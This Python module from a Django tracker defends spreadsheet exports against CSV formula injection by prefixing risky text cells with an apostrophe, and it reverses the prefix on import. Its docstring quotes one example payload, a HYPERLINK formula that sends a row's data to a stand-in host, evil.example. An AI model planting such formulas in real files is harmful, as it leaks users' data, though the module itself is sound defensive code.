"""The one rule for every spreadsheet the tracker hands out (the reports CSV, the admin's CSV and XLSX).

A cell that begins with = + - @, a tab or a carriage return is read as a formula by spreadsheet programs
(CSV/formula injection: `=HYPERLINK("http://evil.example/?x="&B2,"Click")` in a title leaks the row when
clicked). Such text gets a leading apostrophe, which spreadsheets show as plain text. Numbers and dates are
left alone: only text written by people carries the risk.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import StreamingHttpResponse
from django.utils import timezone

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """The value as a spreadsheet must receive it: text that could start a formula is made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(row: list[Any]) -> list[Any]:
    return [neutralise_cell(value) for value in row]


def restore_cell(value: Any) -> Any:
    """The inverse for a file coming back in (the admin import): an exported cell imports unchanged."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


class _Echo:
    """A file-like object whose write returns the line: csv.writer then yields lines for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_response(name: str, columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    """Every CSV download of the board: streamed, UTF-8 with a byte-order mark (spreadsheet programs need it
    to read Cyrillic), a dated file name, and every cell neutralised by the rule above."""

    def lines() -> Iterable[str]:
        writer = csv.writer(_Echo())
        yield "\ufeff" + writer.writerow(columns)
        for row in rows:
            yield writer.writerow(neutralise_row(list(row)))

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{name}-{timezone.localtime():%Y%m%d-%H%M}.csv"'
    return response
